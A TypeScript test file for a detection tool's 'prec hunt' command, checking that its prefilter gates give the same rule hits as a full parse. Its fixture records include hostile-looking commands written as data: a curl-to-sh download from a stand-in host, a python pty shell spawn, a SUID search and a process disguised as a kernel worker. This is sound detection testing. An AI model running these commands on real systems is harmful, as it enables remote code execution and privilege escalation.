// The hunt's line gate and row gate (src/hunt/gate.ts) only save work: `prec hunt` over a generated
// log of varied commands (bench/lib/loggen.ts, hits of many rules among them), and over hand-made
// lines that bend the layout (blanks, escapes, keys out of order, argv[0] renamed), prints the same
// with the gates as without them (PREC_NO_PREFILTER=1: every line parsed, every rule on every row).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { generateLog } from '../../bench/lib/loggen.js';

const PREC = fileURLToPath(new URL('../../../bin/prec.js', import.meta.url));

function hunt(log: string, env: Record<string, string> = {}): string {
  const r = spawnSync(process.execPath, [PREC, 'hunt', '-i', log, '-o', 'json'], { encoding: 'utf8', env: { ...process.env, ...env }, timeout: 120_000, maxBuffer: 1 << 28 });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout;
}

test('prec hunt: the same hits with and without the gates, on a generated log', () => {
  const dir = mkdtempSync(join(tmpdir(), 'prec-hunt-gate-'));
  try {
    const log = join(dir, 'prec.log.zst');
    generateLog(log, 6000);
    const fast = hunt(log);
    assert.ok(fast.split('\n').length > 100, 'the generated log triggers rules');
    assert.equal(fast, hunt(log, { PREC_NO_PREFILTER: '1' }));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('prec hunt: the same hits with and without the gates, on lines in other layouts', () => {
  const dir = mkdtempSync(join(tmpdir(), 'prec-hunt-gate-'));
  try {
    const base = { timestamp: '2026-11-22T15:04:05.000000001+09:00', uid: 33, user: 'www-data', pid: 10, ppid: 1, cwd: '/', record_type: 'start', parent_exe: '/usr/bin/bash', parent_cmdline: 'bash' };
    const recs: Record<string, unknown>[] = [
      { exe: '/usr/bin/sleep', argv: ['[kworker/0:1]', '9'] },
      { exe: '/usr/bin/sleep', argv: ['/bin/sleep', '9'] },
      { argv: ['curl', 'http://x/i.sh', '|', 'sh'], exe: '/usr/bin/curl' },
      { exe: '/usr/bin/base64', argv: ['base64', '-d', 'a"b'] },
      { exe: '/usr/bin/find', argv: ['find', '/', '-perm', '-4000'] },
      { exe: '/usr/bin/dash', argv: ['sh', '-c', 'id'] },
      { exe: '/usr/bin/python3', argv: ['python3', '-c', 'import pty;pty.spawn("/bin/sh")'] },
    ];
    const lines = recs.map((r, i) => JSON.stringify({ ...base, event_id: `20261122150000-${i}`, ...r }));
    // Blanks after colons, `/` escaped, a key in upper case (not the field), exe after argv.
    lines.push(lines[0]!.replace(/":/g, '": '), lines[4]!.replace(/\//g, '\\/'), lines[2]!.replace('"exe"', '"EXE"'), lines[1]!.replace('"argv":["/bin/sleep"', '"argv":["sl\\u0065ep"'));
    const log = join(dir, 'prec.log');
    writeFileSync(log, lines.map((l, i) => l.replace(/-\d+"/, `-${i}"`)).join('\n') + '\n');
    const fast = hunt(log);
    assert.ok(fast.includes('89c222c9-e07f-5b23-b56f-74577e0dea69'), 'argv0_mismatch fires');
    assert.equal(fast, hunt(log, { PREC_NO_PREFILTER: '1' }));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
